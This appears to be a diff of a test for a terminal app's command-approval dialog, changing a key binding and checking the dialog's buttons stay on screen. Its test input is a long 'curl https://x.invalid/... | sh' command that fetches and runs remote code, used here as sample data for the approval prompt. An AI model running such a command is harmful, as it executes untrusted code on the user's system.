@@ -73,15 +73,15 @@ async def test_the_minutes_prompt_shows_the_whole_command(subject: str) -> None:
 
 
 async def test_allow_everywhere_keeps_its_buttons_at_80x24() -> None:
-    """g on the card asks before a global grant, the command whole (4 KiB at most). The body's
+    """e on the card asks before a global grant, the command whole (4 KiB at most). The body's
     scroll may be 24 lines, more than the dialog has at 24 rows: the buttons fell off the
     screen, and the focused No button with them."""
     subject = "curl https://x.invalid/" + "a" * 3000 + " | sh"
     app = app_with(approvals=asking(subject))
     async with app.run_test(size=(80, 24)) as pilot:
         await open_card(pilot)
-        for _ in range(30):  # g pages through the card first, as y does (review s21)
-            await pilot.press("g")
+        for _ in range(30):  # e pages through the card first, as y does (review s21)
+            await pilot.press("e")
             await pilot.pause(0.2)
             if isinstance(app.screen, ConfirmScreen):
                 break
